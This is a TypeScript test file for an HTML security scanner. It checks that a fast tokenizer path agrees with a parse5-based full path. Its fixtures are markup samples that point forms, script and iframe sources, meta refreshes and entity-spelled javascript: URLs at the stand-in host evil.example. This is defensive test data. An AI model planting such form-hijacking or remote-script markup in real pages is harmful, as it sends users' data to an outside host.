/**
 * The fast path's bail list, pinned: each ambiguous construct has a page (test/verify/fixtures/fast/,
 * open it in a browser) on which the fast scanner must hand the document to parse5, and on which the
 * full path then finds the target. And the tokenizer constructs the scanner does model (duplicate
 * attributes, `/`, `<` in names, legacy character references, CR LF, comments) take the fast path
 * and give exactly the full path's findings.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { bothPaths, htmlPage, type Outcome } from './fast-compare.js';

const FIXTURES = new URL('./fixtures/fast/', import.meta.url);

interface BailCase {
  readonly bail: string;
  readonly findings: readonly { readonly kind: string; readonly reason: string }[];
}

const cases = JSON.parse(readFileSync(new URL('bails.json', FIXTURES), 'utf8')) as Record<string, BailCase>;

function violations(outcome: Outcome): { kind: string; reason: string | undefined }[] {
  if (!('sightings' in outcome)) throw new Error(`refused: ${outcome.refused}`);
  return outcome.sightings.filter((s) => !s.finding.allowed).map((s) => ({ kind: s.finding.kind, reason: s.finding.reason }));
}

describe('fast path bails on every construct it does not model, and the full path finds the target', () => {
  it.each(Object.entries(cases))('%s', (name, expected) => {
    const page = htmlPage(name, readFileSync(new URL(`${name}.html`, FIXTURES), 'utf8'));
    const { auto, full, bail } = bothPaths(page);
    expect(bail).toBe(expected.bail);
    expect(auto).toEqual(full);
    for (const finding of expected.findings) expect(violations(full)).toContainEqual(finding);
  });
});

describe('tokenizer constructs the scanner models exactly take the fast path and agree', () => {
  const EVIL = 'https://evil.example';
  const pages: Record<string, string> = {
    'duplicate attributes: the first wins': `<form action="/checkout/pay" action="${EVIL}/c"></form><form ACTION="${EVIL}/c" action="/ok"></form>`,
    'slash between attributes': `<form/action="${EVIL}/c"/method=post/></form><input formaction=${EVIL}/d/>`,
    '< and quotes in attribute names': `<div a<b="1" "x=2 onclick="go()"></div><p =onclick="x()"></p>`,
    'unquoted values end at whitespace and >': `<iframe src=${EVIL}/frame title=a"b></iframe><a href=javascript:void(0)>x</a>`,
    'legacy character references: the next character decides': `<a href="/x?a=1&amp=2&notin=3&lt&gt;" ping="${EVIL}/p&ampx">x</a><form action="&#x68;ttps://evil.example/c&#0;&#x80;"></form>`,
    'entity-spelled javascript: URL': `<a href="&#106;avascript&colon;alert(1)">x</a><a href="java&Tab;script:alert(2)">y</a>`,
    'CR LF in values and script text (hashes)': `<a onclick="a()\r\nb()\rc()">x</a>\r\n<script>\r\nvar a = 1;\r\n</script>`,
    'upper-case names and end tags with attributes': `<FORM ACTION="${EVIL}/c"></FORM title=">"><SCRIPT SRC="${EVIL}/s.js"></SCRIPT >`,
    'comments, bogus comments and doctype': `<!--><form action="${EVIL}/a"></form><!---><!--x--!><form action="${EVIL}/b"></form><?php x ?></ x><//><!x><form action="${EVIL}/c"></form>`,
    'raw text hides markup': `<textarea><form action="${EVIL}/no"></textarea ><title></title><style>a{}</style x><iframe><form action="${EVIL}/no2"></iframe><script>if (a </b) {}</script>`,
    'tables whose cells hold the forms': `<table><thead><tr><th>Item</th></tr></thead><tbody><tr><td><form action="${EVIL}/c"><input name=q></form></td><td>1</td></tr><tr><td>2</td></tbody><tfoot><tr><td>3</td></tr></tfoot></table>`,
    'implied tbody and tr': `<table><td><button formaction="${EVIL}/c">x</button></td></table><table><tr><td>1<td>2<tr><td>3</table>`,
    'selects of options and optgroups': `<form action="${EVIL}/c"><select name=s><optgroup label=a><option>1<option>2</optgroup><option selected>3</select></form>`,
    'implied end tags: p, li, dd, option': `<p>one<div>two</div><ul><li>a<li onclick="x()">b</ul><dl><dt>t<dd>d</dl><p>three<form action="${EVIL}/c"></form>`,
    'a late base and a meta refresh in the body': `<form action="pay"></form><base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/r">`,
    'srcdoc documents': `<iframe srcdoc="<form action=&quot;${EVIL}/c&quot;></form><script src=${EVIL}/s.js></script>"></iframe>`,
    'scripts: import maps, speculation rules, JSON-LD': `<script type="importmap">{"imports":{"a":"${EVIL}/a.js"}}</script><script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/n"]}]}</script><script type="application/ld+json">{bad</script>`,
    // Past 8 attributes the scanner tracks names in a Set (a tag with thousands stays linear): the
    // first of duplicates must still win there, before and after the switch.
    'many attributes, duplicates past the eighth': `<form ${Array.from({ length: 40 }, (_, i) => `data-a${i}=x`).join(' ')} action="${EVIL}/first" onclick="first()" ACTION="/second" ONCLICK="second()" data-a3=y action=/third></form><div onmouseover="a()" ${Array.from({ length: 12 }, (_, i) => `data-b${i % 6}=${i}`).join(' ')} onmouseover="late()" onfocus="f()"></div>`,
  };

  it('head content after </head> goes into the head (after head mode), a body start tag after it', () => {
    const html = `<!DOCTYPE html><html><head><title>t</title></head>\n<base href="${EVIL}/"><script src="s.js"></script><style>x</style>\n<body onload="go()"><form action="pay"></form></body></html>`;
    const { auto, full, bail } = bothPaths(htmlPage('after head', html));
    expect(bail).toBeUndefined();
    expect(auto).toEqual(full);
  });

  it.each(Object.entries(pages))('%s', (name, body) => {
    for (const html of [`<!DOCTYPE html><html><head><title>t</title></head><body>${body}</body></html>`, body]) {
      const { auto, full, bail } = bothPaths(htmlPage(name, html));
      expect(bail, html).toBeUndefined();
      expect(auto).toEqual(full);
    }
  });
});
